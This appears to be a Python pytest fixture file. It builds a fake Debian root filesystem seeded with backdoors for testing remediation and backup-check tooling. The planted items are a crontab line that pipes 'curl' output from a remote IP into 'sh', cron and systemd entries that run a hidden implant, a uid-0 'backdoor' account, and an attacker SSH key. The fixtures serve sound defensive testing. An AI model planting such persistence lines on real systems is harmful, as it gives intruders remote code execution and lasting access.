"""Fake roots for the phase 3 tests (remediation plan, re-check, backup check)."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

PASSWD = ("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          "alice:x:1000:1000:Alice:/home/alice:/bin/bash\nbackdoor:x:0:0::/tmp/.x:/bin/sh\n")
CRON_LINE = "*/5 * * * * root curl -s http://203.0.113.9/x | sh"
CROND_LINE = "* * * * * root /tmp/.x/implant"
EVIL_UNIT = "[Service]\nExecStart=/tmp/.x/implant --quiet\n[Install]\nWantedBy=multi-user.target\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilKeyBlobForTheTest0000000000000000000 attacker@evil"
GOOD_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGoodKeyBlobOfTheAdmin11111111111111111111 admin@tinh"
DPKG_STATUS = ("Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2+deb12u2\n\n"
               "Package: nginx\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.22.1-9\n")


def write(root: Path, rel: str, data: str | bytes) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode() if isinstance(data, str) else data)
    return p


def build_root(root: Path) -> Path:
    """A Debian root with four planted backdoors: a cron line, a systemd unit, an SSH key, a uid-0 account
    (and a second cron backdoor in /etc/cron.d the tests leave in place)."""
    write(root, "etc/hostname", "web01.tinh.gov.vn\n")
    write(root, "etc/os-release", 'NAME="Debian GNU/Linux"\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\nID=debian\n')
    write(root, "etc/passwd", PASSWD)
    write(root, "etc/group", "root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n")
    write(root, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
                               + CRON_LINE + "\n")
    write(root, "etc/cron.d/job", CROND_LINE + "\n")
    write(root, "etc/systemd/system/implant.service", EVIL_UNIT)
    (root / "etc/systemd/system/multi-user.target.wants").mkdir(parents=True)
    os.symlink("/etc/systemd/system/implant.service", root / "etc/systemd/system/multi-user.target.wants/implant.service")
    write(root, "root/.ssh/authorized_keys", GOOD_KEY + "\n" + KEY + "\n")
    write(root, "var/lib/dpkg/status", DPKG_STATUS)
    write(root, "var/log/auth.log", "Nov 24 10:00:00 web01 sshd[1]: Server listening on 0.0.0.0 port 22.\n")
    write(root, "tmp/.x/implant", b"\x7fELF implant payload for the tests\n")
    return root


@pytest.fixture
def fake_root(tmp_path) -> Path:
    return build_root(tmp_path / "root")
